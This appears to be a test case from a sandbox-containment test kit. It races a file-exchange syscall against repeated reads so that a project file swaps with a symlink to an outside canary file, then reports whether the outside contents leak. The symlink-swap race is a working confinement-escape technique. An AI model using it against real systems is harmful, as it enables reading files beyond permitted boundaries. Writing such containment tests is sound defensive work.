#!/usr/bin/python3
# Goal:    read an outside file by exchanging a regular file with a symlink while it is opened
# Models:  TOCTOU between lstat-style check and open (CWE-367)
# Oracle:  token OUTSIDE
# Tier:    core
# Needs:   alone
from ctk import *

open(PROJ + "/r1", "w").write("harmless")
os.symlink(OUT + "/canary.txt", PROJ + "/r2")
end = time.time() + 2.5


def flip():
    while time.time() < end:
        libc.syscall(
            ctypes.c_long(number_here(316)),
            ctypes.c_long(-100),
            (PROJ + "/r1").encode(),
            ctypes.c_long(-100),
            (PROJ + "/r2").encode(),
            ctypes.c_long(2),
        )


threading.Thread(target=flip, daemon=True).start()
n = err = 0
while time.time() < end:
    n += 1
    try:
        t = rd(PROJ + "/r1")
        if PREFIX in t:
            got(t, "after %d opens" % n)
    except OSError:
        err += 1
contained("%d opens, %d refused" % (n, err))
